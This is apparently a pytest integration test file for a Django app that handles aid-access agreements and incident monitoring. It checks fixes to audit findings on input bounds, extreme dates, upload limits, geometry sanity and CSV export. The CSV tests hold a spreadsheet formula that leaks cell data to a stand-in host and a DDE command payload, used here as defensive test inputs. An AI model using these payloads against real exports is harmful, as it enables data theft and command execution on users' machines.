"""Issue 8, findings 10 to 14: every input bounded (ranges, dates, uploads, geometry sanity, CSV
exports), each reproduced as it was reported and shown fixed."""

import copy
from datetime import timedelta

import pytest

from parley.access.models import AccessTerms
from tests.factories.access import access_cast, notify

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

JSON = "application/json"
# The largest value a PositiveIntegerField holds on every database: 245 000 years of hours.
HUGE_HOURS = 2_147_483_647


def as_user(client, user):
    client.force_login(user)
    return client


# Finding 10: a stored value breaks later reads ----------------------------------------------


def test_finding_10_access_terms_out_of_range_refused_with_a_named_error(client):
    c = access_cast()
    api = as_user(client, c.people.secretariat)
    refused = api.put(
        f"/api/agreements/{c.agreement.code}/access-terms",
        data={"ack_deadline_h": 10**18},
        content_type=JSON,
    )
    assert refused.status_code == 422
    assert "ack_deadline_h" in str(refused.json())

    from django.core.exceptions import ValidationError

    from parley.access.services import access_terms_set

    with pytest.raises(ValidationError) as error:
        access_terms_set(
            actor=c.people.secretariat,
            agreement=c.agreement,
            ack_deadline_h=10**18,
            max_vehicles=10**9,
            cargo_limits={"fuel": 1e308},
        )
    assert set(error.value.message_dict) == {"ack_deadline_h", "max_vehicles", "cargo_limits[fuel]"}
    assert error.value.message_dict["ack_deadline_h"] == [
        "Give a whole number from 1 to 8 784 hours (not 1000000000000000000)."
    ]

    page = as_user(client, c.people.secretariat).post(
        f"/access/terms/{c.agreement.code}/", {"ack_deadline_h": "1000000000000000000"}
    )
    assert page.status_code == 200
    assert "8784" in page.content.decode() or "8 784" in page.content.decode()
    accepted = api.put(
        f"/api/agreements/{c.agreement.code}/access-terms",
        data={"ack_deadline_h": 48},
        content_type=JSON,
    )
    assert (accepted.status_code, accepted.json()["ack_deadline_h"]) == (200, 48)


def test_finding_10_a_stored_value_out_of_range_is_clamped_on_read_not_a_500(client):
    c = access_cast()
    movement = notify(c)
    AccessTerms.objects.update_or_create(agreement=c.agreement, defaults={"ack_deadline_h": 24})
    AccessTerms.objects.filter(agreement=c.agreement).update(ack_deadline_h=HUGE_HOURS)
    for user in (c.wfp_liaison, c.people.ua_head, c.people.secretariat):
        api = as_user(client, user)
        listed = api.get("/api/movements")
        assert listed.status_code == 200, user
        assert movement.reference in listed.content.decode()
        assert api.get(f"/api/movements/{movement.reference}").status_code == 200
        assert api.get(f"/access/movements/{movement.reference}/").status_code == 200
        assert api.get("/api/access/latency").status_code == 200
        assert api.get("/access/").status_code == 200

    from parley.access.selectors import acknowledgement_deadline

    movement.refresh_from_db()
    deadline = acknowledgement_deadline(type(movement).objects.get(pk=movement.pk))
    # The deadline reads as the range's end (a year of hours), not 245 000 years.
    released = movement.current_version.released_at
    assert deadline == released + timedelta(hours=24 * 366)


# Finding 11: extreme dates -------------------------------------------------------------------

LATE = "9999-12-31T23:00:00-01:00"
EARLY = "0001-01-01T00:00:00+01:00"
SPAN = "1678-01-01 to 2261-12-31 (UTC)"


@pytest.fixture
def monitoring_people(settings, tmp_path):
    from parley.agreements.models import Agreement
    from tests.factories import AgreementFactory, cast

    settings.VAR_DIR = tmp_path
    people = cast()
    AgreementFactory(
        code="HP-2026-010",
        owner=people.mediator,
        process=people.process,
        status=Agreement.Status.AGREED,
        bound_parties=[people.ukraine],
    )
    return people


def test_finding_11_extreme_dates_in_the_incidents_api_and_its_filters_answer_422(
    client, monitoring_people
):
    people = monitoring_people
    api = as_user(client, people.monitor_user)
    for moment in (LATE, EARLY):
        item = {"id": "x", "lat": 47.6, "lon": 35.2, "time": moment, "precision_m": 0}
        answer = api.post(
            "/api/monitoring/incidents", {"source": "S", "incidents": [item]}, content_type=JSON
        )
        assert answer.status_code == 422
        [detail] = answer.json()["detail"]
        assert detail["field"] == "items[0].time"
        assert SPAN in detail["message"]
        for name in ("since", "until"):
            listed = api.get("/api/monitoring/incidents", {name: moment})
            assert listed.status_code == 422, (name, moment)
            assert listed.json()["detail"][0]["field"] == name
    assert (
        api.get("/api/monitoring/incidents", {"since": "2026-01-01T00:00:00Z"}).status_code == 200
    )


def test_finding_11_events_day_out_of_span_is_a_named_error_on_api_csv_and_page(
    client, monitoring_people
):
    api = as_user(client, monitoring_people.monitor_user)
    for path in (
        "/api/monitoring/events",
        "/api/monitoring/events.csv",
        "/api/monitoring/events.geojson",
    ):
        answer = api.get(path, {"day": "9999-12-31"})
        assert answer.status_code == 422, path
        assert answer.json()["detail"][0]["field"] == "day"
    page = api.get("/monitoring/events/", {"day": "9999-12-31"})
    assert page.status_code == 200
    assert "Give a day from 1678-01-01 to 2261-12-31 (UTC)" in page.content.decode()
    assert api.get("/monitoring/events.csv", {"day": "9999-12-31"}).status_code == 200
    calendar = api.get("/calendar/", {"start": "9999-12-31"})
    assert calendar.status_code == 200
    assert f"Give a day from {SPAN}." in calendar.content.decode()
    assert api.get("/calendar/", {"start": "2261-12-31", "days": "62"}).status_code == 200


def test_finding_11_extreme_dates_in_imports_are_rejected_rows_naming_line_and_field(
    monitoring_people, tmp_path
):
    from parley.monitoring.services import incidents_import

    parley_csv = tmp_path / "late.csv"
    parley_csv.write_text(
        f"id,lat,lon,time,precision_m\na,47.6,35.2,{LATE},0\nb,47.6,35.2,{EARLY},0\n"
    )
    run = incidents_import(actor=monitoring_people.monitor_user, kind="parley", path=parley_csv)
    assert run.status == "rejected"
    assert [(row["line"], row["field"]) for row in run.rejected_rows] == [(2, "time"), (3, "time")]
    assert all(SPAN in row["reason"] for row in run.rejected_rows)

    acled = tmp_path / "acled.csv"
    acled.write_text(
        "event_id_cnty,event_date,latitude,longitude,geo_precision\n"
        "UKR1,9999-12-31,47.6,35.2,1\nUKR2,0001-01-01,47.6,35.2,1\n"
    )
    run = incidents_import(actor=monitoring_people.monitor_user, kind="acled", path=acled)
    assert run.status == "rejected"
    assert [(row["line"], row["field"]) for row in run.rejected_rows] == [
        (2, "event_date"),
        (3, "event_date"),
    ]


def test_finding_11_extreme_dates_in_agreement_windows_answer_422(client):
    from tests.factories import CORRIDOR, cast

    people = cast()
    api = as_user(client, people.secretariat)
    payload = {
        "process": people.process.pk,
        "round": people.day1.pk,
        "kind": "pause",
        "title": "Far future",
        "purpose": "evacuation",
        "bound_parties": ["ukraine", "russia"],
        "areas": CORRIDOR,
        "lead_time_h": 24,
        "margin_min": 30,
        "who_may_move": "Civilians",
    }
    for start, end in ((LATE, LATE), (EARLY, "2026-01-01T00:00:00Z")):
        answer = api.post(
            "/api/agreements",
            data={**payload, "windows": [{"start": start, "end": end}]},
            content_type=JSON,
        )
        assert answer.status_code == 422, answer.content
        assert answer.json()["detail"][0]["field"].startswith("windows[0]")


def test_finding_11_extreme_dates_in_check_ins_answer_422(client):
    c = access_cast()
    movement = notify(c)
    driver = as_user(client, c.wfp_driver)
    for moment in (LATE, EARLY):
        answer = driver.post(
            f"/api/movements/{movement.reference}/check-ins",
            data={"lon": 35.2745, "lat": 47.4373, "at": moment},
            content_type=JSON,
        )
        assert answer.status_code == 422, answer.content
        assert answer.json()["detail"][0]["field"] == "at"


def test_finding_11_extreme_departure_of_a_movement_answers_422(client):
    from tests.factories.access import CARGO, PERSONNEL, ROUTE, TRUCKS

    c = access_cast()
    api = as_user(client, c.wfp_liaison)
    for moment in (LATE, EARLY):
        answer = api.post(
            "/api/movements",
            data={
                "agreement": c.agreement.code,
                "purpose": "aid",
                "route": ROUTE,
                "depart": moment,
                "speed_kmh": 40,
                "vehicles": TRUCKS,
                "personnel": PERSONNEL,
                "cargo": CARGO,
            },
            content_type=JSON,
        )
        assert answer.status_code == 422, answer.content
        assert answer.json()["detail"][0]["field"] == "depart"


# Finding 14: CSV exports carry spreadsheet formulas -------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_finding_14_csv_cells_are_neutralised_as_owasp_recommends_numbers_stay_numbers():
    import csv
    import io

    from parley.engines import csvsafe

    assert csvsafe.safe_row([FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]) == [
        "'" + FORMULA,
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
    ]
    # Negative numbers, as numbers or as the text of a number, stay numbers.
    assert csvsafe.safe_row([-35.2, "-35.2", "+4", "-1e-3", 0, None, ""]) == [
        -35.2,
        "-35.2",
        "+4",
        "-1e-3",
        0,
        None,
        "",
    ]
    buffer = io.StringIO()
    csvsafe.writer(buffer, lineterminator="\n").writerows([["a", "=1+1"], [-1, "b"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "'=1+1"], ["-1", "b"]]


def test_finding_14_events_csv_neutralises_formulas_from_incident_fields(client, monitoring_people):
    import csv
    import io

    people = monitoring_people
    api = as_user(client, people.monitor_user)
    item = {
        "id": "f-1",
        "lat": 47.6380,
        "lon": 35.2070,
        "time": "2026-03-01T11:00:00+02:00",
        "precision_m": 0,
        "type": FORMULA,
    }
    assert (
        api.post(
            "/api/monitoring/incidents",
            {"source": "-cmd|' /C calc'!A0", "incidents": [item]},
            content_type=JSON,
        ).status_code
        == 201
    )
    for path in ("/api/monitoring/events.csv", "/monitoring/events.csv"):
        text = api.get(path).content.decode()
        rows = list(csv.DictReader(io.StringIO(text)))
        [event] = rows[1:]  # the first row under the header is HXL's hashtags
        assert event["types"] == "'" + FORMULA
        assert event["sources"] == "'-cmd|' /C calc'!A0"
        assert float(event["lat"]) == pytest.approx(47.638)
        assert not any(value.startswith(("=", "+", "@")) for value in event.values())


# Finding 12: uploads without a limit, rejected-row reports without an end -----------------


def test_finding_12_an_oversize_upload_is_refused_before_it_is_read(
    client, monitoring_people, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.PARLEY_UPLOAD_MAX_BYTES = 10_000
    body = b"id,lat,lon,time,precision_m\n" + b"x" * 20_000
    api = as_user(client, monitoring_people.monitor_user)
    answer = api.post(
        "/api/monitoring/imports", {"source": "parley", "file": SimpleUploadedFile("big.csv", body)}
    )
    assert answer.status_code == 413
    assert answer["Content-Type"] == "application/json"
    assert "PARLEY_UPLOAD_MAX_BYTES" in answer.json()["detail"]
    page = api.post(
        "/monitoring/imports/new/",
        {"source": "parley", "file": SimpleUploadedFile("big.csv", body)},
    )
    assert page.status_code == 413
    assert "The upload is larger than" in page.content.decode()
    # Refused before authentication too: no session is needed to answer.
    client.logout()
    anonymous = client.post(
        "/monitoring/imports/new/",
        {"source": "parley", "file": SimpleUploadedFile("big.csv", body)},
    )
    assert anonymous.status_code == 413
    # A JSON body over what is held in memory: 413 in JSON, not an HTML 400.
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1_000
    oversize = client.post(
        "/api/monitoring/incidents", data="[" + " " * 2_000 + "]", content_type=JSON
    )
    assert (oversize.status_code, oversize["Content-Type"]) == (413, "application/json")


def test_finding_12_the_import_service_and_form_refuse_an_oversize_file(
    monitoring_people, settings
):
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile

    from parley.monitoring.forms import ImportForm
    from parley.monitoring.services import import_queue

    settings.PARLEY_UPLOAD_MAX_BYTES = 100
    upload = SimpleUploadedFile("big.csv", b"x" * 200)
    with pytest.raises(ValidationError) as error:
        import_queue(actor=monitoring_people.monitor_user, kind="parley", upload=upload)
    assert list(error.value.message_dict) == ["file"]
    form = ImportForm({"source": "parley"}, {"file": SimpleUploadedFile("big.csv", b"x" * 200)})
    assert not form.is_valid()
    assert "larger than" in form.errors["file"][0]


def test_finding_12_a_file_of_bad_rows_keeps_counts_and_the_first_rows_paged(
    client, monitoring_people, tmp_path
):
    from parley.monitoring.services import incidents_import

    bad = tmp_path / "bad.csv"
    bad.write_text(
        "id,lat,lon,time,precision_m\n"
        + "".join(f"r{i},47.6,35.2,not-a-time-{i},0\n" for i in range(2_000))
        + "z,147.6,35.2,2026-03-01T09:00:00Z,0\n"
    )
    run = incidents_import(actor=monitoring_people.monitor_user, kind="parley", path=bad)
    assert (run.status, run.rejected_total, len(run.rejected_rows)) == ("rejected", 2_001, 300)
    assert run.rejected_counts == [
        {"field": "time", "reason": "… is not an ISO 8601 date and time", "rows": 2_000},
        {
            "field": "lat",
            "reason": "… is outside ±90 (are lat and lon swapped? lat is the latitude, -90 to 90; "
            "lon the longitude, -180 to 180)",
            "rows": 1,
        },
    ]
    assert run.rejected_rows[0] == {
        "line": 2,
        "field": "time",
        "reason": "'not-a-time-0' is not an ISO 8601 date and time",
    }

    api = as_user(client, monitoring_people.monitor_user)
    detail = api.get(f"/api/monitoring/imports/{run.pk}")
    assert detail.status_code == 200
    assert len(detail.content) < 60_000
    assert (detail.json()["rejected_total"], len(detail.json()["rejected_rows"])) == (2_001, 300)
    paged = api.get(
        f"/api/monitoring/imports/{run.pk}/rejected-rows", {"limit": 100, "offset": 250}
    ).json()
    assert paged["count"] == 300
    assert [row["line"] for row in paged["items"]] == list(range(252, 302))
    page = api.get(f"/monitoring/imports/{run.pk}/", {"page": 2}).content.decode()
    assert "Page 2 of 6" in page
    assert "The first 300 of 2001 problems are kept" in page
    assert "not-a-time-50" in page and "not-a-time-49'" not in page
    assert len(page) < 100_000
    assert api.get(
        f"/monitoring/imports/{run.pk}/rejected-rows",
    ).status_code in (404, 200)
    assert (
        api.get(
            f"/api/monitoring/imports/{run.pk}/rejected-rows", HTTP_AUTHORIZATION=""
        ).status_code
        == 200
    )
    as_user(client, monitoring_people.ua_head)
    assert client.get(f"/api/monitoring/imports/{run.pk}/rejected-rows").status_code == 404


def test_finding_12_the_exact_reader_keeps_n_problems_and_counts_the_rest_in_batches(tmp_path):
    """A file of bad rows is read a batch of rows at a time and keeps only the first problems
    (in the file's order: line, then column), with the total and the counts by reason; an id
    repeated in another batch is still found."""
    from parley.engines import monitor

    bad = tmp_path / "bad.csv"
    rows = ["r0,147.6,35.2,bad-0,0"] + [
        f"{'r0' if i == 997 else f'r{i}'},47.6,35.2,bad-{i},0" for i in range(1, 1_000)
    ]
    bad.write_text("id,lat,lon,time,precision_m\n" + "\n".join(rows) + "\n")
    with pytest.raises(monitor.IncidentValidationError) as caught:
        monitor.read_exact(bad, monitor.PARLEY, keep=3, batch_rows=100)
    error = caught.value
    assert [(e.line, e.field) for e in error.errors] == [(2, "lat"), (2, "time"), (3, "time")]
    assert error.total == 1_002
    assert dict(error.counts) == {
        ("time", "… is not an ISO 8601 date and time"): 1_000,
        ("lat", "… is outside ±90 (are lat and lon swapped? lat is the latitude, -90 to 90; "
                "lon the longitude, -180 to 180)"): 1,
        ("id", "… is used twice: line … has the same id"): 1,
    }
    assert "... and 999 more problems (1002 in all)" in str(error)

    with pytest.raises(monitor.IncidentValidationError) as caught:
        monitor.read_exact(bad, monitor.PARLEY, keep=5_000, batch_rows=100)
    repeated = [e for e in caught.value.errors if e.field == "id"]
    assert [(e.line, e.reason) for e in repeated] == [
        (999, "'r0' is used twice: line 2 has the same id")
    ]
    assert len(caught.value.errors) == caught.value.total == 1_002

    # Batches are yielded while no problem is found; a valid file reads the same in batches.
    good = tmp_path / "good.csv"
    good.write_text("id,lat,lon,time,precision_m\n" + "".join(
        f"g{i}, 47.6,35.2,2026-03-01T09:00:00Z,0\n" for i in range(250)))
    batches = list(monitor.exact_batches(good, monitor.PARLEY, batch_rows=100))
    assert [len(batch) for batch in batches] == [100, 100, 50]
    whole = monitor.read_exact(good, monitor.PARLEY, batch_rows=100)
    assert list(whole.ids) == [f"g{i}" for i in range(250)]


def test_finding_12_repeated_ids_are_told_apart_from_hash_collisions(tmp_path, monkeypatch):
    """Every id hashed alike: the reader compares the ids themselves, so only the really
    repeated ones are named, each with the line that first had it."""
    import numpy as np

    from parley.engines import monitor
    from parley.engines.monitor import tabular

    monkeypatch.setattr(tabular, "text_hashes", lambda values: np.zeros(len(values), np.uint64))
    path = tmp_path / "ids.csv"
    path.write_text("id,lat,lon,time,precision_m\n" + "".join(
        f"{identifier},47.6,35.2,2026-03-01T09:00:00Z,0\n"
        for identifier in ["a", "b", "a", "c", "b", "a"]))
    with pytest.raises(monitor.IncidentValidationError) as caught:
        monitor.read_exact(path, monitor.PARLEY, batch_rows=2)
    assert [(e.line, e.reason) for e in caught.value.errors] == [
        (4, "'a' is used twice: line 2 has the same id"),
        (6, "'b' is used twice: line 3 has the same id"),
        (7, "'a' is used twice: line 2 has the same id"),
    ]


# Finding 13: implausible geometry ------------------------------------------------------------

WORLD = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "id": "W1",
            "properties": {},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[-179, -89], [179, -89], [179, 89], [-179, 89], [-179, -89]]],
            },
        }
    ],
}
# About 4° by 4° around Zaporizhzhia: some 130 000 km², larger than any oblast.
LARGE = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "id": "L1",
            "properties": {},
            "geometry": {
                "type": "Polygon",
                "coordinates": [
                    [[33.0, 46.0], [37.0, 46.0], [37.0, 49.0], [33.0, 49.0], [33.0, 46.0]]
                ],
            },
        }
    ],
}


def test_finding_13_sanity_engine_refuses_the_world_and_names_swapped_coordinates():
    from parley.engines.geo import sanity

    warnings, refusals = sanity.check_areas(WORLD)
    [refusal] = refusals
    assert "more than 1,000,000 km²" in refusal.message
    warnings, refusals = sanity.check_areas(LARGE)
    assert refusals == []
    assert [w.code for w in warnings] == ["large_area"]
    [swapped] = sanity.check_points([(49.9, 36.2)], near=[(36.0, 49.8), (36.4, 50.1)])
    assert swapped.code == "swapped"
    assert swapped.message == (
        "latitude and longitude may be swapped: (longitude 49.9, latitude 36.2) lies outside "
        "the agreement's areas, (longitude 36.2, latitude 49.9) inside."
    )
    [far] = sanity.check_points([(-70.0, 40.0)])
    assert far.code == "outside_region"
    assert sanity.check_points([(35.2, 47.6)]) == []


def test_finding_13_implausible_values_are_refused_by_their_ranges(client, monitoring_people):
    people = monitoring_people
    api = as_user(client, people.monitor_user)
    item = {
        "id": "p",
        "lat": 47.6,
        "lon": 35.2,
        "time": "2026-03-01T09:00:00Z",
        "precision_m": 1e308,
    }
    answer = api.post(
        "/api/monitoring/incidents", {"source": "S", "incidents": [item]}, content_type=JSON
    )
    assert answer.status_code == 422
    assert answer.json()["detail"][0]["field"].endswith("precision_m")

    from parley.engines import monitor

    with pytest.raises(monitor.IncidentValidationError) as error:
        monitor.parse_parley_csv(
            "id,lat,lon,time,precision_m\na,47.6,35.2,2026-03-01T09:00:00Z,1e308\n"
        )
    [problem] = error.value.errors
    assert (problem.line, problem.field) == (2, "precision_m")
    assert "100 000 metres" in problem.reason

    as_user(client, people.secretariat)
    from tests.factories import CORRIDOR

    wide = copy.deepcopy(CORRIDOR)
    wide["features"][0]["properties"]["width_m"] = 1e12
    base = {
        "process": people.process.pk,
        "round": people.day1.pk,
        "kind": "pause",
        "title": "Wide",
        "purpose": "evacuation",
        "bound_parties": ["ukraine", "russia"],
        "windows": [{"start": "2026-12-20T08:00:00Z", "end": "2026-12-20T16:00:00Z"}],
        "lead_time_h": 24,
        "margin_min": 30,
        "who_may_move": "Civilians",
    }
    for areas, expected in ((wide, "width_m"), (WORLD, "1,000,000 km²")):
        refused = client.post("/api/agreements", data={**base, "areas": areas}, content_type=JSON)
        assert refused.status_code == 422, refused.content
        assert any(
            d["field"] == "areas" and expected in d["message"] for d in refused.json()["detail"]
        ), refused.json()


def test_finding_13_doubtful_geometry_is_accepted_with_warnings_that_name_the_cause(
    client, monitoring_people
):
    people = monitoring_people
    as_user(client, people.secretariat)
    created = client.post(
        "/api/agreements",
        data={
            "process": people.process.pk,
            "round": people.day1.pk,
            "kind": "pause",
            "title": "Large",
            "purpose": "evacuation",
            "bound_parties": ["ukraine", "russia"],
            "areas": LARGE,
            "windows": [{"start": "2026-12-20T08:00:00Z", "end": "2026-12-20T16:00:00Z"}],
            "lead_time_h": 24,
            "margin_min": 30,
            "who_may_move": "Civilians",
        },
        content_type=JSON,
    )
    assert created.status_code == 201, created.content
    assert [w["code"] for w in created.json()["warnings"]] == ["large_area"]
    page = client.get(f"/agreements/{created.json()['code']}/").content.decode()
    assert "larger than any oblast" in page

    as_user(client, people.monitor_user)
    item = {"id": "s", "lat": 35.2, "lon": 47.6, "time": "2026-03-01T09:00:00Z"}
    ingested = client.post(
        "/api/monitoring/incidents", {"source": "S", "incidents": [item]}, content_type=JSON
    )
    assert ingested.status_code == 201
    messages = [w["message"] for w in ingested.json()["warnings"]]
    assert messages[0].startswith(
        "1 incident lies far outside Ukraine's and Russia's region, "
        "1 of them inside it with latitude and longitude swapped"
    )
    assert "latitude and longitude may be swapped" in messages[1]


def test_finding_13_a_site_with_swapped_coordinates_is_notified_with_the_warning(client):
    c = access_cast()
    api = as_user(client, c.wfp_liaison)
    answer = api.post(
        "/api/sites",
        data={
            "name": "Warehouse",
            "kind": "warehouse",
            "lon": 47.84,
            "lat": 35.14,
            "radius_m": 300,
        },
        content_type=JSON,
    )
    assert answer.status_code == 201, answer.content
    [warning] = answer.json()["warnings"]
    assert warning["code"] == "swapped"
    assert "latitude and longitude may be swapped" in warning["message"]
    page = api.post(
        "/access/sites/new/",
        {
            "name": "Shelter",
            "kind": "shelter",
            "lon": "47.84",
            "lat": "35.14",
            "radius_m": "300",
            "note": "",
        },
        follow=True,
    )
    assert "latitude and longitude may be swapped" in page.content.decode()
    movement = notify(c)
    detail = api.get(f"/api/movements/{movement.reference}").json()
    assert detail["warnings"] == []
